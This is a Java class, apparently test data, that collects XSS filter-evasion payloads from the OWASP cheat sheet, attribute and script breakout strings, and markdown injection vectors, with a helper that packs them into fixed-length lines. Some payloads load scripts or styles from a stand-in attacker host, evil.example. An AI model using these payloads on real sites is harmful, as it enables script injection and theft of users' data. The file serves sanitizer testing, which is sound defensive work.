package org.nonnegotiable.language;

import java.util.ArrayList;
import java.util.List;

/** What somebody types who wants it to run in another's browser: the vectors of the OWASP XSS filter evasion cheat sheet that apply to text that becomes HTML. */
public final class Hostile {

    private static final List<String> WORDS = List.of(
        "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>", "<IMG SRC=\"javascript:alert('XSS');\">", "<img src=x:alert(alt) onerror=eval(src) alt=xss>",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>", "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<style>@import 'https://evil.example'</style>",
        "<STYLE>li {list-style-image: url(\"javascript:alert(1)\");}</STYLE>", "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=data:text/html;base64,PHNjcmlwdD4=>", "<embed src=javascript:alert(1)>",
        "<link rel=stylesheet href=https://evil.example/x.css>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<base href=https://evil.example/>", "<body onload=alert(1)>", "<div style=\"width: expression(alert(1))\">", "<a onmouseover=alert(1)>x</a>",
        "<form action=javascript:alert(1)><button>x</button></form>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<<script>alert(1)//<</script>", "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<template><script>alert(1)</script>",
        "\\<img src=x onerror=alert(1)\\>", "`<img src=x onerror=alert(1)>`", "    <img src=x onerror=alert(1)>", "```\n<script>alert(1)</script>\n```",
        "```\"onmouseover=alert(1)\nx\n```", "![x](https://evil.example/pixel.gif)", "![x](x \"\\\" onerror=\\\"alert(1)\")",
        "[x](https://a.example \"\\\" onmouseover=\\\"alert(1)\")", "[<img src=x onerror=alert(1)>](https://a.example)");
    /** For what stands in an attribute or in a script. */
    private static final List<String> BREAKING_OUT = List.of("\" autofocus onfocus=alert(1) x=\"", "' onmouseover='alert(1)", "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>", "</script><script>alert(1)</script>", "-->\"><svg onload=alert(1)>", "]]><script>alert(1)</script>", "{msg:desk_title}{1}");

    private Hostile() {
    }

    public static List<String> words() {
        return WORDS;
    }

    /** All of it in as few texts of one line as hold it. @param most how many letters a field takes */
    public static List<String> lines(int most) {
        List<String> lines = new ArrayList<>();
        StringBuilder line = new StringBuilder();
        for (List<String> some : List.of(BREAKING_OUT, WORDS)) {
            for (String words : some) {
                String one = words.strip().replace('\n', ' ');
                if (line.length() > 0 && line.length() + 1 + one.length() > most) {
                    lines.add(line.toString());
                    line.setLength(0);
                }
                line.append(line.length() == 0 ? "" : " ").append(one);
            }
        }
        lines.add(line.toString());
        return lines.stream().filter(one -> one.length() <= most).toList();
    }
}
